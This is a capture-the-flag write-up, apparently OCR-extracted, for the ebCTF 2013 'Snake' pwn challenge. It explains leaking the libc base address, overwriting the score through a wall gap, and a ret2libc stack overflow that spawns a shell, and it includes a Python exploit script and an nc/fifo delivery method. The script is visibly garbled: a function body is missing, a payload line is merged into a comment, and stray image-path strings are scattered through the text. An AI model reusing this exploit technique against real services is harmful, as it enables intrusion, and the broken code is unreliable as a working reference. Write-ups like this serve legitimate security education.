Ebctf 2013 Pwn 300 Snake Writeup

It’s a snake game.

Playing it for a while, we find that w,s,a,d can control the snake in 4 directions, “enter” key will stop the snake, and b will start the game in single step mode.

The clue printed before game started is important, it says, HIT (ALMOST) ANY KEYTO START GAME, so there must be some key which will generate different output. After some try and fail, we find that ‘#’ key will dump the binary file in hex code. This is the first breakthrough we got. Now we can disassemble the binary and play the game locally.

Using the binary file, we find a stack overflow vulnerability immediately, which is located at game exit, used to input the player’s name, exposed by function fgets. But the logic of the game shows we need a score larger than 313336, which is impossible to acquire by playing the game.

By reading the assembly of the binary, we got some more findings. The first discoveryindicates that if we get a score equal to 666, the program will print out some memory layout information. The second discovery shows that, if we get 1221 score, the program will erase the last 4 wall of the game board by space. Furthermore, the memory location of the walls locate adjacently to that of the score variable.

Knowing above, we can compose a solution now. First, use some input sequence, we can eat 6 dots and get the libc.so base address in memory. Then we eat 6 more dots, the bottom wall will open a 4-bytes-wide door. Move snake outside the play field, and overwrite 4 bytes after the wall, the score variable will be large enough to pass the high score check.

Now we just need to grab the shell using ret2libc. Calculate the system function offset and “/bin/sh” offset, using the offset provided by memory info printed. The final script is as follows, note that the system offset and “/bin/sh” offset need to be recalculated for different platforms.

import struct

f = open('fifo', 'w')

def send(cmd):
    global f

s = 'd' * 28 + 's' * 3 + 'd' * 2 + 'w' * 5 + 'a' * 23 + 's' * 11 + 'd'* 27 + 'w' + 'w' * 3 + 'a' * 27 + 'w' * 5 + 'd' * 50 + 's' * 2 + 'a' * 38 + 's' * 11 + 'd' * 7 + 'w' * 7 + 'a' * 6 + 'w' * 9 + 'd' * 17 + 'd' * 2  + 'd' * 23 + 's' * 17 + 'd' * 6


b = raw_input('please enter base address: ')

ba = "base = 0x" + b
print ba
exec ba

#base = 0xf75fe000g = 'A' * 140 + struct.pack('I', base + 0x3e6c0) + struct.pack('I', base + 0x3e6c0 - 0xd1d0) + struct.pack('I', base + 0x160cbf) + struct.pack('I', 10) + 'pwd\n'


while True:
    send(raw_input('$ ') + '\n\n')

raw_input("\npress any key to exit ...")

We used mkfifo to create a fifo file first. Then do the following:

$ nc "ip" "port" < fifo$ python2 solve.py
  ... input the libc base address when it prints out.
Some solutions we seen write a lot of code to read server input and parse the libc base address, but it's much more easier to use pipe and input itmanually. <img src='http://www.blue-lotus.net/wp-includes/images/smilies/icon_smile.gif' alt=':)' class='wp-smiley' />

aay, cbmixx, kelwin contribute most of the work for solving this problem. Thanks very much!